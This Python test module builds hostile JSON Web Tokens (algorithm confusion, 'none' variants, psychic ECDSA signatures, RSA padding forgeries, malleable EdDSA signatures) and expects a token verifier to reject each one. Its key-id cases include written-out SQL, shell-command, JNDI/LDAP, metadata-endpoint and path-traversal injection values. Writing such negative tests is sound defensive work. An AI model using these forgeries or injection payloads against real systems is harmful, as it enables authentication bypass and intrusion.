"""Hostile tokens by algorithm, key name and signature; those for one algorithm stand by its name."""

from __future__ import annotations

import hashlib
import hmac
import json
from collections.abc import Callable
from typing import Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding, utils
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt import PyJWS

from tests.identity.hostile import CANARY, Case, Corpus, header, raw_header, segments, with_signature
from tests.identity.issuer import OMIT, TestIssuer, encode, generate_key

P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
ED25519_ORDER = 2**252 + 27742317777372353535851937790883648493
SHA256_DIGEST_INFO = bytes.fromhex("3031300d060960864801650304020105000420")
SHA256_DIGEST_INFO_WITHOUT_NULL = bytes.fromhex("302f300b0609608648016503040201" + "0420")


def _mac(key: Callable[[TestIssuer], bytes], algorithm: str = "HS256") -> Case:
    """The classic confusion: HMAC keyed with what everybody knows."""

    def case(issuer: TestIssuer) -> str:
        written = {"alg": algorithm, "kid": issuer.key_id, "typ": issuer.trusted.jwt_type}
        signing_input = f"{encode(json.dumps(written).encode())}.{encode(json.dumps(issuer.claims()).encode())}"
        digest = hmac.digest(key(issuer), signing_input.encode(), f"sha{algorithm[-3:]}")
        return f"{signing_input}.{encode(digest)}"

    return case


def _public(issuer: TestIssuer) -> Any:
    return issuer.private_key.public_key()  # type: ignore[union-attr]  # Diffie-Hellman keys have none either


def _pem(issuer: TestIssuer) -> bytes:
    raw: bytes = _public(issuer).public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    return raw


def _der(issuer: TestIssuer) -> bytes:
    raw: bytes = _public(issuer).public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    return raw


def _stranger(issuer: TestIssuer, signing_input: bytes) -> bytes:
    algorithm = PyJWS().get_algorithm_by_name(issuer.algorithm)
    raw: bytes = algorithm.sign(signing_input, generate_key(issuer.algorithm))
    return raw


def _flipped(token: str, position: int) -> str:
    return token[:position] + ("A" if token[position] != "A" else "E") + token[position + 1 :]


def _forged_claims(issuer: TestIssuer) -> str:
    head, _, signature = issuer.mint().split(".")
    return f"{head}.{encode(json.dumps(issuer.claims(sub='subject-2')).encode())}.{signature}"


ALGORITHM: Corpus = {
    **{
        f"alg {given!r}": ("algorithm_not_allowed", header(alg=given))
        for given in (
            *("none", "None", "nOnE", "NONE", "none ", " none", "none\0", "nonе", "null", "", "*"),
            *("HS256", "HS384", "HS512", "A128KW", "dir", "RSA-OAEP", "RSA1_5", "ECDH-ES", "PBES2-HS256+A128KW"),
            *("ES256K", "ES256 ", "ES256\0", "ES256,none", "es256", "ЕS256", "SHA256withECDSA", "Ed448", "RS1", "MD5"),
            *("RS256", "PS256", "EdDSA", "ES384", "ES512", "HSS-LMS", "ML-DSA-44", "1.2.840.10045.4.3.2"),
        )
    },
    "alg none without signature": (
        "malformed_token",
        lambda i: i.mint(header={"alg": "none"}).rpartition(".")[0] + ".",
    ),
    "alg none, escaped": (
        "algorithm_not_allowed",
        raw_header('{"alg": "\\u006eone", "kid": "$kid", "typ": "$typ"}'),
    ),
    "HMAC with the public key as JWK": (
        "algorithm_not_allowed",
        _mac(lambda i: json.dumps(i.public_jwk()).encode()),
    ),
    "HMAC with the public key as PEM": ("algorithm_not_allowed", _mac(_pem)),
    "HMAC with the public key as PEM without its last newline": (
        "algorithm_not_allowed",
        _mac(lambda i: _pem(i).strip()),
    ),
    "HMAC with the public key as DER": ("algorithm_not_allowed", _mac(_der)),
    "HMAC with the key set": ("algorithm_not_allowed", _mac(lambda i: json.dumps(i.jwks).encode(), "HS512")),
    "HMAC with an empty key": ("algorithm_not_allowed", _mac(lambda _: b"", "HS384")),
    "HMAC with the key's name": ("algorithm_not_allowed", _mac(lambda i: i.key_id.encode())),
    "HMAC with the client's name": ("algorithm_not_allowed", _mac(lambda _: b"vneid-app")),
}

KEY_ID: Corpus = {
    "no kid": ("unknown_key", header(kid=OMIT)),
    **{
        f"kid {given!r}": ("unknown_key", header(kid=given))
        for given in (
            *("another", "KEY-1", "key-1 ", " key-1", "key-1\0", "key-1\n", "key-１", "*", "key-*", "0", "-1", "null"),
            *("../../../../dev/null", "/dev/null", "/proc/sys/kernel/randomize_va_space", "file:///dev/null"),
            *("..\\..\\windows\\win.ini", "key-1/../key-2", "keys/key-1", ".", "%2e%2e%2fkey-1"),
            *("x' UNION SELECT 'key", "key-1' OR '1'='1", "key-1'; DROP TABLE keys; --", "key-1)(cn=*"),
            *("|/usr/bin/id", "$(id)", "`id`", "; sleep 10", "{{7*7}}", "${jndi:ldap://canary.example/a}"),
            *(CANARY, "http://169.254.169.254/latest/meta-data", "data:application/json,{}", "__proto__", "__class__"),
        )
    },
}

SIGNATURE: Corpus = {
    "signed by a stranger": ("bad_signature", with_signature(_stranger)),
    "claims exchanged": ("bad_signature", _forged_claims),
    "signature of one byte": ("bad_signature", segments(lambda s: f"{s[0]}.{s[1]}.AA")),
    "signature without end": ("bad_signature", with_signature(lambda *_: bytes(4000))),
    "signature's first character changed": (
        "bad_signature",
        lambda i: (lambda t: _flipped(t, t.rindex(".") + 1))(i.mint()),
    ),
    "a character of the claims changed": (
        "bad_signature",
        lambda i: (lambda s: f"{s[0]}.{encode(json.dumps(i.claims(), indent=1).encode())}.{s[2]}")(i.mint().split(".")),
    ),
    "signature of another token": (
        "bad_signature",
        lambda i: f"{i.mint().rpartition('.')[0]}.{i.mint(sub='subject-2').rpartition('.')[2]}",
    ),
    "signature twice in a row": ("bad_signature", with_signature(lambda i, m: _signed(i, m) * 2)),
    "signature of the payload alone": ("bad_signature", with_signature(lambda i, m: _signed(i, m.partition(b".")[2]))),
    "signature of the header alone": ("bad_signature", with_signature(lambda i, m: _signed(i, m.partition(b".")[0]))),
    "signature of what is inside the base64": (
        "bad_signature",
        with_signature(lambda i, m: _signed(i, json.dumps(i.claims()).encode())),
    ),
    "signature of the digest's hexadecimal form": (
        "bad_signature",
        with_signature(lambda i, m: _signed(i, hashlib.sha256(m).hexdigest().encode())),
    ),
    "the digest in the signature's place": ("bad_signature", with_signature(lambda _, m: hashlib.sha256(m).digest())),
    "the public key in the signature's place": ("bad_signature", with_signature(lambda i, _: _der(i))),
    "the signing input in the signature's place": ("bad_signature", with_signature(lambda _, m: m[:64])),
}


def _signed(issuer: TestIssuer, message: bytes) -> bytes:
    raw: bytes = PyJWS().get_algorithm_by_name(issuer.algorithm).sign(message, issuer.private_key)
    return raw


def _numbers(r: int, s: int) -> Case:
    return with_signature(lambda *_: r.to_bytes(32) + s.to_bytes(32))


def _ecdsa(change: Callable[[bytes, bytes], bytes]) -> Case:
    """An honest signature's r and s, each 32 bytes, put together differently."""
    return with_signature(lambda i, m: (lambda raw: change(raw[:32], raw[32:]))(_signed(i, m)))


def _ecdsa_by(algorithm: Any) -> Case:
    def make(issuer: TestIssuer, message: bytes) -> bytes:
        key: Any = issuer.private_key
        r, s = utils.decode_dss_signature(key.sign(message, ec.ECDSA(algorithm)))
        return r.to_bytes(32) + s.to_bytes(32)

    return with_signature(make)


def _der_signature(r: bytes, s: bytes) -> bytes:
    return utils.encode_dss_signature(int.from_bytes(r), int.from_bytes(s))


ES256: Corpus = {
    # CVE-2022-21449, the psychic signature, and its relatives
    "psychic: r = s = 0": ("bad_signature", _numbers(0, 0)),
    "psychic: r = 0": ("bad_signature", _numbers(0, 1)),
    "psychic: s = 0": ("bad_signature", _numbers(1, 0)),
    "psychic: r = s = n": ("bad_signature", _numbers(P256_ORDER, P256_ORDER)),
    "psychic: r = n": ("bad_signature", _numbers(P256_ORDER, 1)),
    "psychic: s = n": ("bad_signature", _numbers(1, P256_ORDER)),
    "r = s = 1": ("bad_signature", _numbers(1, 1)),
    "r = s = n - 1": ("bad_signature", _numbers(P256_ORDER - 1, P256_ORDER - 1)),
    "r = s = n + 1": ("bad_signature", _numbers(P256_ORDER + 1, P256_ORDER + 1)),
    "r and s as large as they can be": ("bad_signature", _numbers(2**256 - 1, 2**256 - 1)),
    "psychic, in DER": ("bad_signature", with_signature(lambda *_: bytes.fromhex("3006020100020100"))),
    "an honest signature in DER": ("bad_signature", _ecdsa(_der_signature)),
    "an honest signature in DER, filled up": ("bad_signature", _ecdsa(lambda r, s: _der_signature(r, s)[:64])),
    "r and s exchanged": ("bad_signature", _ecdsa(lambda r, s: s + r)),
    "r twice": ("bad_signature", _ecdsa(lambda r, s: r + r)),
    "r alone": ("bad_signature", _ecdsa(lambda r, s: r)),
    "a byte short": ("bad_signature", _ecdsa(lambda r, s: r + s[:-1])),
    "a byte long": ("bad_signature", _ecdsa(lambda r, s: r + s + b"\0")),
    "a zero before r and s": ("bad_signature", _ecdsa(lambda r, s: b"\0" + r + b"\0" + s)),
    "as long as one of P-384": ("bad_signature", _ecdsa(lambda r, s: bytes(16) + r + bytes(16) + s)),
    "as long as one of P-521": ("bad_signature", _ecdsa(lambda r, s: bytes(34) + r + bytes(34) + s)),
    "little-endian": ("bad_signature", _ecdsa(lambda r, s: r[::-1] + s[::-1])),
    "over SHA-384": ("bad_signature", _ecdsa_by(hashes.SHA384())),
    "over SHA-1": ("bad_signature", _ecdsa_by(hashes.SHA1())),
}


def _rsa(make_block: Callable[[bytes, int], bytes]) -> Case:
    """The private key's power of any block: what a verifier that reads padding loosely would believe.

    The block is made from the digest and the modulus's length in bytes.
    """

    def make(issuer: TestIssuer, message: bytes) -> bytes:
        key: Any = issuer.private_key
        numbers, bytes_long = key.private_numbers(), key.key_size // 8
        block = make_block(hashlib.sha256(message).digest(), bytes_long)
        assert len(block) == bytes_long
        power = pow(int.from_bytes(block), numbers.d, numbers.public_numbers.n)
        return power.to_bytes(bytes_long)

    return with_signature(make)


def _rsa_number(number: Callable[[int], int]) -> Case:
    return with_signature(lambda i, _: number(_public(i).public_numbers().n).to_bytes(_public(i).key_size // 8))


def _rsa_by(scheme: Callable[[], Any], algorithm: Any) -> Case:
    def make(issuer: TestIssuer, message: bytes) -> bytes:
        key: Any = issuer.private_key
        raw: bytes = key.sign(message, scheme(), algorithm)
        return raw

    return with_signature(make)


def _padded(after: bytes, length: int, start: bytes = b"\0\1", fill: bytes = b"\xff") -> bytes:
    """EMSA-PKCS1-v1_5 (RFC 8017 section 9.2) with whatever comes after the padding."""
    return start + fill * (length - len(start) - 1 - len(after)) + b"\0" + after


def _garbage_after(info: bytes, digest: bytes, length: int, filled: int) -> bytes:
    """Bleichenbacher 2006: short padding, a good digest, and room for anything after it."""
    block = b"\0\1" + b"\xff" * filled + b"\0" + info + digest
    return block + bytes(length - len(block))


def _plus_modulus(issuer: TestIssuer, message: bytes) -> bytes:
    """The same number in the ring, written larger than the modulus; one byte more where it does not fit."""
    n = _public(issuer).public_numbers().n
    return (int.from_bytes(_signed(issuer, message)) + n).to_bytes(_public(issuer).key_size // 8 + 1).lstrip(b"\0")


_RSA_NUMBERS: Corpus = {
    "the number 0": ("bad_signature", _rsa_number(lambda n: 0)),
    "the number 1": ("bad_signature", _rsa_number(lambda n: 1)),
    "the modulus less one": ("bad_signature", _rsa_number(lambda n: n - 1)),
    "the modulus": ("bad_signature", _rsa_number(lambda n: n)),
    "more than the modulus": ("bad_signature", with_signature(_plus_modulus)),
    "all bits set": ("bad_signature", with_signature(lambda *_: b"\xff" * 256)),
    "a zero before": ("bad_signature", with_signature(lambda i, m: b"\0" + _signed(i, m))),
    "a zero after": ("bad_signature", with_signature(lambda i, m: _signed(i, m) + b"\0")),
    "a byte short": ("bad_signature", with_signature(lambda i, m: _signed(i, m)[:-1])),
    "little-endian": ("bad_signature", with_signature(lambda i, m: _signed(i, m)[::-1])),
}


def _pss(hash_algorithm: Any, salt: Any, mask: Any = None) -> Callable[[], Any]:
    return lambda: padding.PSS(padding.MGF1(mask or hash_algorithm), salt)


RS256: Corpus = _RSA_NUMBERS | {
    "PSS instead": ("bad_signature", _rsa_by(_pss(hashes.SHA256(), 32), hashes.SHA256())),
    "over SHA-1": ("bad_signature", _rsa_by(padding.PKCS1v15, hashes.SHA1())),
    "over SHA-512": ("bad_signature", _rsa_by(padding.PKCS1v15, hashes.SHA512())),
    "no padding": ("bad_signature", _rsa(lambda d, n: bytes(n - 32) + d)),
    "no name of the hash": ("bad_signature", _rsa(lambda d, n: _padded(d, n))),
    "another name of the hash": (
        "bad_signature",
        _rsa(lambda d, n: _padded(bytes.fromhex("3031300d060960864801650304020205000420") + d, n)),
    ),
    "the hash's parameters left out": (
        "bad_signature",
        _rsa(lambda d, n: _padded(SHA256_DIGEST_INFO_WITHOUT_NULL + d, n)),
    ),
    "a padding byte that is not FF": (
        "bad_signature",
        _rsa(lambda d, n: (lambda b: b[:9] + b"\xfe" + b[10:])(_padded(SHA256_DIGEST_INFO + d, n))),
    ),
    "padding of encryption": (
        "bad_signature",
        _rsa(lambda d, n: _padded(SHA256_DIGEST_INFO + d, n, b"\0\2")),
    ),
    "padding of zeros": ("bad_signature", _rsa(lambda d, n: _padded(SHA256_DIGEST_INFO + d, n, b"\0\0", b"\0"))),
    "garbage after the digest, short padding": (
        "bad_signature",
        _rsa(lambda d, n: _garbage_after(SHA256_DIGEST_INFO, d, n, 8)),
    ),
    "garbage after the digest, no padding": (
        "bad_signature",
        _rsa(lambda d, n: _garbage_after(SHA256_DIGEST_INFO, d, n, 0)),
    ),
    "garbage among the hash's parameters": (
        "bad_signature",
        _rsa(
            lambda d, n: _padded(
                bytes.fromhex("3041301d0609608648016503040201") + b"\x04\x10" + bytes(16) + b"\x04\x20" + d, n
            )
        ),
    ),
    "a digest of its first half": ("bad_signature", _rsa(lambda d, n: _padded(SHA256_DIGEST_INFO + d[:16], n))),
}

PS256: Corpus = _RSA_NUMBERS | {
    "PKCS #1 v1.5 instead": ("bad_signature", _rsa_by(padding.PKCS1v15, hashes.SHA256())),
    "without salt": ("bad_signature", _rsa_by(_pss(hashes.SHA256(), 0), hashes.SHA256())),
    "with all the salt that fits": (
        "bad_signature",
        _rsa_by(_pss(hashes.SHA256(), padding.PSS.MAX_LENGTH), hashes.SHA256()),
    ),
    "mask by SHA-1": ("bad_signature", _rsa_by(_pss(hashes.SHA256(), 32, hashes.SHA1()), hashes.SHA256())),
    "over SHA-512": ("bad_signature", _rsa_by(_pss(hashes.SHA512(), 64), hashes.SHA512())),
    "over SHA-384 with a salt of 32": ("bad_signature", _rsa_by(_pss(hashes.SHA384(), 32), hashes.SHA384())),
}


def _edwards(change: Callable[[bytes, bytes], bytes]) -> Case:
    """An honest signature's R and S, each 32 bytes, put together differently."""
    return with_signature(lambda i, m: (lambda raw: change(raw[:32], raw[32:]))(_signed(i, m)))


def _identity() -> bytes:
    """The neutral point, as a key or as R of a signature that belongs to no key."""
    return b"\1" + bytes(31)


EDDSA: Corpus = {
    "all zero": ("bad_signature", with_signature(lambda *_: bytes(64))),
    "the neutral point and zero": ("bad_signature", with_signature(lambda *_: _identity() + bytes(32))),
    "S and the group's order (RFC 8032 section 5.1.7)": (
        "bad_signature",
        _edwards(lambda r, s: r + (int.from_bytes(s, "little") + ED25519_ORDER).to_bytes(32, "little")),
    ),
    "S is the group's order": ("bad_signature", _edwards(lambda r, s: r + ED25519_ORDER.to_bytes(32, "little"))),
    "S with its highest bit set": ("bad_signature", _edwards(lambda r, s: r + s[:31] + bytes([s[31] | 0x80]))),
    "R and S exchanged": ("bad_signature", _edwards(lambda r, s: s + r)),
    "R with its sign changed": ("bad_signature", _edwards(lambda r, s: r[:31] + bytes([r[31] ^ 0x80]) + s)),
    "R is no point": ("bad_signature", _edwards(lambda r, s: b"\2" + bytes(31) + s)),
    "a byte short": ("bad_signature", _edwards(lambda r, s: r + s[:-1])),
    "a byte long": ("bad_signature", _edwards(lambda r, s: r + s + b"\0")),
    "as long as one of Ed448": ("bad_signature", _edwards(lambda r, s: r + s + bytes(50))),
    "of the digest (Ed25519ph)": (
        "bad_signature",
        with_signature(lambda i, m: _signed(i, hashlib.sha512(m).digest())),
    ),
}

BY_ALGORITHM = {"ES256": ES256, "RS256": RS256, "PS256": PS256, "EdDSA": EDDSA}
